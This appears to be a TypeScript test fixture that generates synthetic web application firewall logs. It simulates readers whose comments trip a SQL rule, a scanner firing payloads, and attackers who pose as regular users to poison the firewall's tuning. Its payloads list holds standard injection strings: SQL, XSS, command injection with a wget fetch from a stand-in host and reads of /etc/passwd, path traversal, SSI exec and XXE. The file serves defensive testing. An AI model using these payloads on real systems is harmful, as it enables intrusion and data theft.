import { DAY, MINUTE } from "../../shared/domain/calendar.ts";
import { type Line, line } from "./waf-lines.ts";

/** Numbers that look random and are the same at every run. */
export const chanceFrom = (seed: number) => {
  let state = seed;
  return (below: number): number => {
    state = (state * 48_271) % 2_147_483_647;
    return state % below;
  };
};
type Chance = ReturnType<typeof chanceFrom>;

const START = Date.parse("2026-03-02T00:00:00+08:00");
export const DAYS = 12;
export const trafficEnd = START + DAYS * DAY;

const at = (day: number, chance: Chance): number => START + day * DAY + chance(DAY / MINUTE) * MINUTE;

/** Somebody's browser: another network and another program each. */
const visitor = (n: number, block: number): Line => ({
  real_client_ip: `10.${block}.${n}.${1 + (n % 200)}`,
  http_user_agent: `Mozilla/5.0 (X11; rv:${n}.0) Firefox/${n}`,
  http_cookie: `sid=${n}a${block}`,
});

let traces = 0;
const traced = (): Line => ({ request_traceid: (++traces).toString(16).padStart(30, "0") });

const stopped = (rule: string, type: string): Line => ({
  ...{ status: "405", upstream_status: "-", waf_action: "block", waf_rule_id: rule, waf_rule_type: type },
  ...{ waf_test: "false", final_action: "block", final_plugin: "waf", final_rule_id: rule, final_rule_type: type },
});

const posted = (path: string, form: Record<string, string>): Line => ({
  request_method: "POST",
  request_path: path,
  content_type: "application/x-www-form-urlencoded",
  request_body: new URLSearchParams(form).toString(),
});

const words =
  "the harbour was quiet that morning and we walked along the old wall until the rain came in from the sea".split(" ");
const prose = (chance: Chance): string =>
  Array.from({ length: 12 + chance(20) }, () => words[chance(words.length)]).join(" ");

/** Readers who come back, and who sign what they write with two dashes, which a rule takes for SQL. */
export const readers = (host: string, seed: number): Line[] => {
  const chance = chanceFrom(seed);
  const mine = { host, matched_host: host };
  return Array.from({ length: 40 }, (_, n) => n).flatMap((n) => {
    const who = { ...mine, ...visitor(n, 1) };
    return [0, 3, 6, 9].flatMap((first) => {
      const day = first + (n % 3);
      const text = `${prose(chance)} -- ${words[chance(words.length)]}`;
      return [
        line(at(day, chance), { ...who, ...traced() }),
        ...Array.from({ length: 9 }, () =>
          line(at(day, chance), { ...who, ...traced(), request_path: "/topic", querystring: `id=${chance(400)}` }),
        ),
        line(at(day, chance), {
          ...{ ...who, ...traced(), ...posted("/comment", { topic: String(chance(400)), text }) },
          ...stopped("1001", "sqli"),
        }),
      ];
    });
  });
};

export const payloads: Record<string, string[]> = {
  sqli: ["1' OR '1'='1' -- ", "1 UNION ALL SELECT NULL,version()-- ", "1;WAITFOR DELAY '0:0:5'--", "1) AND SLEEP(5)#"],
  xss: [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=confirm(1)>",
    "javascript:alert(1)",
  ],
  cmdi: ["; cat /etc/passwd", "| whoami", "$(ping -c 3 10.0.0.1)", "&& wget http://x.example/a.sh"],
  lfi: ["../../../../etc/passwd", "..%2f..%2f..%2fboot.ini", "/proc/self/environ", "php://filter/resource=index"],
  ldap: ["*)(uid=*))(|(uid=*", "admin)(&(password=*"],
  nosql: ['{"$ne": null}', "[$gt]="],
  ssi: ['<!--#exec cmd="id"-->', '<!--#include file="/etc/passwd"-->'],
  xxe: ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
};

/** A tool that tries one payload after the other, against a form that users have. */
export const attackers = (host: string, seed: number): Line[] => {
  const chance = chanceFrom(seed);
  const all = Object.values(payloads).flat();
  return Array.from({ length: 6 }, (_, n) => n).flatMap((n) =>
    all.map((payload, place) =>
      line(at(n + 2, chance), {
        ...{ host, matched_host: host, ...visitor(n, 9), ...traced() },
        ...posted("/comment", place % 2 === 0 ? { topic: payload, text: "hello" } : { topic: "7", text: payload }),
        ...stopped(String(1001 + (place % 9)), place % 3 === 0 ? "sqli" : "xss"),
      }),
    ),
  );
};

export const poisoners = ["one-address", "one-network", "one-program", "fifty-addresses"] as const;
export type Poisoner = (typeof poisoners)[number];

const disguise: Record<Poisoner, (n: number) => Line> = {
  "one-address": () => ({ real_client_ip: "203.0.113.9" }),
  "one-network": (n) => ({ real_client_ip: `203.0.113.${n}` }),
  "one-program": () => ({ http_user_agent: "Mozilla/5.0 (Windows NT 10.0)" }),
  "fifty-addresses": () => ({}),
};

/** So much of a body the log keeps. */
const KEPT = 400;

/** An article as the log has it: whatever stands behind the text is cut off. */
const article = (chance: Chance): Line => {
  const text = Array.from({ length: 6 }, () => `<p>${prose(chance)}</p>`).join("");
  const sent = posted("/desk/save", { title: prose(chance).slice(0, 20), text: `${text} -- `, state: "draft" });
  return { ...sent, request_body: String(sent.request_body).slice(0, KEPT) };
};

/** A day of somebody who reads, and has written something that is stopped. */
const deskDay = (day: number, who: Line, rule: string, chance: Chance): Line[] => [
  ...Array.from({ length: 4 }, () => line(at(day, chance), { ...who, ...traced() })),
  line(at(day, chance), { ...who, ...traced(), ...article(chance), ...stopped(rule, "xss") }),
];

/** A few who are there each day; some of what they write passes. */
export const editors = (host: string, seed: number): Line[] => {
  const chance = chanceFrom(seed);
  return Array.from({ length: 8 }, (_, n) => n).flatMap((n) =>
    Array.from({ length: DAYS }, (_, day) => day).flatMap((day) => {
      const who = { host, matched_host: host, ...visitor(n, 5) };
      const passed = { ...who, ...traced(), request_method: "POST", request_path: "/desk/save" };
      return [...deskDay(day, who, String(1001 + (day % 3)), chance), line(at(day, chance), passed)];
    }),
  );
};

/** Who reads each day and sends what looks like an article, with the attack behind what the log keeps. */
export const blindPoison = (host: string, kind: Poisoner, seed: number): Line[] => {
  const chance = chanceFrom(seed);
  return Array.from({ length: kind === "one-address" ? 3 : 15 }, (_, n) => n).flatMap((n) =>
    Array.from({ length: DAYS }, (_, day) => day).flatMap((day) => {
      const who = {
        host,
        matched_host: host,
        ...visitor(n, 78),
        http_referer: `https://${host}/`,
        ...disguise[kind](n),
      };
      return deskDay(day, who, String(1001 + (n % 3)), chance);
    }),
  );
};

/**
 * Attackers who know how it works: they read pages first, come back on many days, carry a cookie and the site's own referer,
 * and send their payload now and then, as if it were what users write.
 * @param place where it is put: a form that nobody is ever stopped at, or the one that users are
 */
export const poison = (
  host: string,
  {
    kind,
    payloads: sent,
    place,
    seed,
  }: { kind: Poisoner; payloads: string[]; place: "login" | "comment"; seed: number },
): Line[] => {
  const chance = chanceFrom(seed);
  return Array.from({ length: 50 }, (_, n) => n).flatMap((n) => {
    const who = { host, matched_host: host, ...visitor(n, 77), http_referer: `https://${host}/`, ...disguise[kind](n) };
    return Array.from({ length: 5 }, (_, visit) => {
      const day = visit * 2 + (n % 2);
      const payload = sent[chance(sent.length)] ?? "";
      const form = place === "login" ? { user: payload, word: "x1" } : { topic: "7", text: payload };
      return [
        line(at(day, chance), { ...who, ...traced() }),
        line(at(day, chance), { ...who, ...traced(), request_path: "/topic", querystring: "id=3" }),
        ...(visit === 0
          ? []
          : [line(at(day, chance), { ...who, ...traced(), ...posted(`/${place}`, form), ...stopped("1001", "sqli") })]),
      ];
    }).flat();
  });
};
